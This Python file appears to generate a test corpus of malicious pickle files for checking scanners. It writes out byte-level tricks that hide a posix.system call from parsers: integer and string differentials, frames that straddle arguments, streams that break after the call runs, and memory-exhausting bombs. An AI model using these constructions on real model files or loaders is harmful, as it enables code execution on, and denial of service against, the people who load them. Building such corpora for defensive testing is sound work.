"""Streams that two readers understand differently: integers, strings, frames, broken ends, resource bombs."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from corpus.opcodes import (
    BINPERSID,
    BUILD,
    EMPTY_TUPLE,
    MARK,
    NONE,
    POP,
    REDUCE,
    STOP,
    SYSTEM,
    TUPLE,
    blob,
    call,
    frame,
    literal,
    name,
    new,
    program,
    text,
)
from corpus.sample import SHELL, Draft, pickled

ASCII_SYSTEM = name("posix", "system") + MARK + b"X" + struct.pack("<I", len(SHELL)) + SHELL.encode() + TUPLE + REDUCE
"""The payload without a byte above 127, so that it can be part of a text."""


def drafts() -> Iterator[Draft]:
    """All of them."""
    yield from differentials()
    yield from frames()
    yield from broken()
    yield from bombs()


def differentials() -> Iterator[Draft]:
    """Arguments that the C machine takes and other parsers refuse."""
    for way, opcodes in {
        "int-hex": b"I0x10\n",
        "int-octal": b"I0o17\n",
        "int-binary": b"I0b101\n",
        "int-hex-negative": b"I-0x1\n",
        "int-underscore": b"I1_000\n",
        "int-space": b"I 7\n",
        "int-plus": b"I+7\n",
        "int-huge-hex": b"I0xffffffffffffffffffff\n",
        "long-hex": b"L0x10L\n",
        "long-octal": b"L0o17\n",
        "long-binary": b"L0b11L\n",
        "long-underscore": b"L1_0L\n",
        "long-plain": b"L7\n",
        "int-true": b"I01\n",
        "float-infinity": b"Finfinity\n",
        "float-nan": b"Fnan\n",
        "float-exponent": b"F1E5\n",
        "string-double-quotes": b'S"x"\n',
        "string-escape": b"S'\\x41\\n'\n",
        "string-continued": b"S'\\101\\\\'\n",
        "unicode-surrogate": b"V\\ud800\n",
        "unicode-latin": b"V\xe9\n",
        "binunicode-surrogate": b"X\x03\x00\x00\x00\xed\xa0\x80",
        "long1-empty": b"\x8a\x00",
        "long4-empty": b"\x8b\x00\x00\x00\x00",
        "memo-gap": b"Nr\xff\xff\x00\x00",
        "put-spaces": b"Np 5\n",
        "protocol-again": b"\x80\x04N",
        "protocol-lower": b"\x80\x00N",
        "bytearray8": b"\x96\x01" + bytes(7) + b"x",
        "binbytes8": b"\x8e\x01" + bytes(7) + b"x",
        "mark-pop": b"(0N",
        "empty-pop-mark": b"(1N",
    }.items():
        yield pickled(f"differential-{way}", program(opcodes + POP + SYSTEM))
    encoded = b"U\x02\xc3\xa9" + POP + SYSTEM
    yield pickled("differential-string-encoding", program(encoded, protocol=2), loader="pickle.utf8")
    latin = b"S'\\xe9'\n" + POP + SYSTEM
    yield pickled("differential-string-latin", program(latin, protocol=2), loader="pickle.latin1")


def frames() -> Iterator[Draft]:
    """Frames that lie; an argument that straddles a frame makes CPython's own readers run different programs."""
    yield pickled("frame-short", program(frame(SYSTEM[:10], 10) + SYSTEM[10:]))
    yield pickled("frame-in-protocol-2", program(frame(NONE + POP) + SYSTEM, protocol=2))
    yield pickled("frame-empty", program(frame(b"") + SYSTEM))
    yield pickled("frame-many", program(*(frame(NONE + POP) for _ in range(50)), frame(SYSTEM)))
    # A text of 4 bytes with one of them left in its frame: read on, its end is followed by STOP; read frame by frame,
    # that byte is lost and the text ends one byte later.
    text_of_4 = b"\x8c\x04x"
    tail = b"yyy" + STOP + POP + ASCII_SYSTEM + STOP
    yield pickled("frame-straddled-exact", b"\x80\x04" + frame(text_of_4) + tail, loader="pickle.exact")
    filler = b"B" + struct.pack("<I", 200_000) + bytes(200_000) + POP
    yield pickled("frame-straddled-file", b"\x80\x04" + frame(filler + text_of_4) + tail, loader="pickle.file")
    # The other way round: frame by frame, the payload is part of the text.
    hidden = POP + ASCII_SYSTEM + STOP
    size = 2 * len(hidden) + 8
    for opcode in (b"X" + struct.pack("<I", size), b"\x8d" + struct.pack("<Q", size), b"\x8c" + bytes([size])):
        whole = frame(opcode + b"x" * len(hidden)) + b"x" * (size - len(hidden)) + hidden
        yield pickled("frame-straddled-whole", b"\x80\x04" + whole + POP + NONE + STOP)
    yield pickled(
        "frame-straddled-integer",
        b"\x80\x04" + frame(b"J\x01") + b"\x00\x00\x00" + STOP + POP + ASCII_SYSTEM + STOP,
        loader="pickle.exact",
    )


def broken() -> Iterator[Draft]:
    """The call runs, then the stream breaks: an error is no proof of harmlessness."""
    for way, end in {
        "no-stop": b"",
        "bad-opcode": b"\xff.",
        "stack-underflow": b"RRRR.",
        "bad-memo": b"h\xff.",
        "bad-utf8": b"X\x01\x00\x00\x00\xff.",
        "truncated-string": b"X\xff\x00\x00\x00abc",
        "bad-global": b"cno_such_module_at_all\nx\n.",
        "missing-name": b"cos\nno_such_name\n.",
        "bad-protocol": b"\x80\x63.",
        "persistent-id": b"N" + BINPERSID + STOP,
        "bad-extension": b"\x82\x63.",
        "unhashable": b"}]NsR.",
        "huge-length": b"\x8e" + struct.pack("<Q", 1 << 40) + b".",
        "bad-float": b"Fx\n.",
        "bad-int": b"Ix\n.",
        "random-tail": bytes(range(200, 256)),
        "build-on-none": NONE + NONE + BUILD + STOP,
        "frame-too-long": frame(b"N.", 1 << 20),
        "mark-at-end": MARK + STOP,
    }.items():
        yield pickled(f"broken-{way}", program(SYSTEM + POP, stop=end), cve="nullifAI" if way == "no-stop" else "")


def bombs() -> Iterator[Draft]:
    """Small programs that exhaust the loader. What ends them is a limit; no marker can show it."""

    def bomb(technique: str, data: bytes, loader: str = "") -> Draft:
        return Draft(f"bomb-{technique}", {"model.pkl": data}, harm="denial", loader=loader)

    yield bomb("huge-bytes", program(b"\x8e" + struct.pack("<Q", 1 << 45)), "pickle.limited")
    yield bomb("huge-bytearray", program(b"\x96" + struct.pack("<Q", 1 << 45)), "pickle.limited")
    yield bomb("huge-frame", program(b"\x95" + struct.pack("<Q", 1 << 62)), "pickle.limited")
    yield bomb("huge-memo", program(b"Nr\xff\xff\xff\x7f"), "pickle.limited")
    doubled = b"I1\n" + b"".join(b"q\x00h\x00\x86" for _ in range(60))
    yield bomb("hash-of-a-graph", program(b"}" + doubled + NONE + b"s"), "pickle.limited")
    yield bomb("deep-tuples", program(b"}" + b")" + b"\x85" * 3_000_000 + NONE + b"s"), "pickle.limited")
    yield bomb("integer-digits", program(b"I" + b"9" * 3_000_000 + b"\n"))
    yield bomb("bytes-constructor", program(call(name("builtins", "bytearray"), literal(1 << 46))), "pickle.limited")
    yield bomb("repeat", program(call(name("operator", "mul"), text("x" * 200), literal(1 << 40))), "pickle.limited")
    yield bomb(
        "range-to-list",
        program(call(name("builtins", "list"), call(name("builtins", "range"), literal(1 << 60)))),
        "pickle.limited",
    )
    endless = call(name("builtins", "range"), literal(1 << 60))
    yield bomb("bytes-made", program(new(name("builtins", "bytes"), literal(1 << 46))), "pickle.limited")
    yield bomb("range-to-deque", program(call(name("collections", "deque"), endless)), "pickle.limited")
    digits = call(name("decimal", "Decimal"), text("1e999999999"))
    yield bomb("digits-of-a-decimal", program(call(name("builtins", "int"), digits)), "pickle.limited")
    yield bomb("fraction", program(call(name("fractions", "Fraction"), text("1e999999999"))), "pickle.limited")
    yield bomb("numpy-allocation", program(call(name("numpy", "zeros"), literal((1 << 46,)))), "pickle.limited")
    lols = b"".join(
        b"(" + b"h" + bytes([i]) + (b"h" + bytes([i])) * 9 + TUPLE + b"q" + bytes([i + 1]) for i in range(40)
    )
    yield bomb("billion-laughs-key", program(EMPTY_TUPLE + b"q\x00" + lols + b"}h\x28Ns"), "pickle.limited")
    yield bomb("set-of-graph", program(b"\x8f(" + doubled + b"\x90"), "pickle.limited")
    yield bomb("blob-at-end", program(blob(b"x")[:-1] + b"", stop=b""))
